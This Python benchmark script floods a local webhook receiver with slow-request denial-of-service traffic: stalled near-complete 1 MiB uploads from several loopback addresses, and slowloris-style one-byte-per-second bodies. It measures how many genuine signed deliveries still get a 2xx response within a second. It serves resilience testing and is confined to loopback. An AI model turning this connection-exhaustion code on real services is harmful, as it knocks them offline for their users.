"""Attacks a Groq receiver on 127.0.0.1 as a client without a secret would, while
sending genuine signed deliveries, and reports how many of those were answered 2xx
within 1 s. Used by bench/attack/run; loopback only, bounded in time.

    python3 attack.py PORT SECRET ATTACK SECONDS

ATTACK:
  budget    stalled uploads that fill the unverified-bytes budget: from ADDRESSES
            loopback addresses (127.0.0.2..), SOCKETS sockets each declaring 1 MiB,
            sending 1 MiB - 1 byte and stalling; each reopened when the server closes it
  crawl     SOCKETS sockets that send their headers, then one body byte a second;
            each reopened when the server closes it
"""
import asyncio
import hashlib
import hmac
import json
import os
import sys
import time

PORT, SECRET, ATTACK, SECONDS = int(sys.argv[1]), sys.argv[2], sys.argv[3], float(sys.argv[4])
SOCKETS = int(os.environ.get("SOCKETS", "65" if ATTACK == "budget" else "1500"))
ADDRESSES = int(os.environ.get("ADDRESSES", "1"))
GENUINE = int(os.environ.get("GENUINE", "80"))
MIB = 1024 * 1024

sent_bytes = 0
opened = 0


def head(length, extra=""):
    return (
        f"POST /webhooks/groq HTTP/1.1\r\nhost: 127.0.0.1:{PORT}\r\ncontent-type: application/json\r\n"
        f"content-length: {length}\r\n{extra}\r\n"
    ).encode()


async def connect(source):
    reader, writer = await asyncio.open_connection("127.0.0.1", PORT, local_addr=(source, 0))
    return reader, writer


async def budget_socket(n, stop):
    global sent_bytes, opened
    source = f"127.0.0.{2 + n % ADDRESSES}"
    filler = b" " * (64 * 1024)
    while not stop.is_set():
        try:
            reader, writer = await connect(source)
            opened += 1
            writer.write(head(MIB))
            left = MIB - 1
            while left > 0:
                piece = filler[: min(left, len(filler))]
                writer.write(piece)
                await writer.drain()
                left -= len(piece)
                sent_bytes += len(piece)
            await reader.read(1)  # until the server answers or closes
            writer.close()
        except OSError:
            await asyncio.sleep(0.05)


async def crawl_socket(n, stop):
    global sent_bytes, opened
    source = f"127.0.0.{2 + n % ADDRESSES}"
    while not stop.is_set():
        try:
            reader, writer = await connect(source)
            opened += 1
            writer.write(head(10_000))
            await writer.drain()
            while not stop.is_set():
                writer.write(b" ")
                await writer.drain()
                sent_bytes += 1
                try:
                    closed = await asyncio.wait_for(reader.read(1), 1.0)
                    if closed is not None:
                        break  # answered or closed
                except asyncio.TimeoutError:
                    pass
            writer.close()
        except OSError:
            await asyncio.sleep(0.05)


async def genuine(n):
    body = json.dumps({"type": "resource.created", "id": f"evt_attack_{os.getpid()}_{n}",
                       "created_at": "2026-01-01T00:00:00Z", "data": {"id": f"r{n}"}}).encode()
    timestamp = str(int(time.time()))
    signature = hmac.new(SECRET.encode(), timestamp.encode() + b"." + body, hashlib.sha256).hexdigest()
    request = head(len(body), f"x-groq-signature: {signature}\r\nx-groq-timestamp: {timestamp}\r\n") + body
    started = time.monotonic()
    try:
        async def exchange():
            reader, writer = await asyncio.open_connection("127.0.0.1", PORT)
            writer.write(request)
            await writer.drain()
            line = await reader.readline()
            writer.close()
            return int(line.split()[1])
        status = await asyncio.wait_for(exchange(), 10)
    except (OSError, asyncio.TimeoutError, IndexError, ValueError):
        status = None
    return status, time.monotonic() - started


async def send_genuine():
    """The genuine deliveries, in a process of their own: the attacker's event loop does
    not delay them."""
    await asyncio.sleep(3)  # the attack takes hold first
    spacing = max(SECONDS - 3, 1) / GENUINE
    pending = []
    for n in range(GENUINE):
        pending.append(asyncio.create_task(genuine(n)))
        await asyncio.sleep(spacing)
    results = await asyncio.gather(*pending)
    print(json.dumps(results))


async def main():
    stop = asyncio.Event()
    attacker = budget_socket if ATTACK == "budget" else crawl_socket
    tasks = [asyncio.create_task(attacker(n, stop)) for n in range(SOCKETS)]
    sender = await asyncio.create_subprocess_exec(
        sys.executable, __file__, *sys.argv[1:], env={**os.environ, "GENUINE_ONLY": "1"},
        stdout=asyncio.subprocess.PIPE)
    await asyncio.sleep(3)
    begun, bytes_before, opened_before = time.monotonic(), sent_bytes, opened
    output, _ = await sender.communicate()
    took_s = time.monotonic() - begun
    rate = (sent_bytes - bytes_before) / took_s
    connections = (opened - opened_before) / took_s
    stop.set()
    for task in tasks:
        task.cancel()
    results = json.loads(output)
    within = sum(1 for status, took in results if status in (200, 202) and took <= 1.0)
    answered = sorted(took for status, took in results if status in (200, 202))
    median = answered[len(answered) // 2] if answered else float("nan")
    statuses = {}
    for status, _ in results:
        statuses[status] = statuses.get(status, 0) + 1
    print(json.dumps({
        "attack": ATTACK, "sockets": SOCKETS, "addresses": ADDRESSES,
        "attacker_bytes_per_s": round(rate), "attacker_connections_per_s": round(connections),
        "genuine": GENUINE, "within_1s": within, "within_1s_pct": round(100 * within / GENUINE, 1),
        "median_s": round(median, 3), "statuses": {str(k): v for k, v in statuses.items()},
    }))


asyncio.run(send_genuine() if os.environ.get("GENUINE_ONLY") else main())
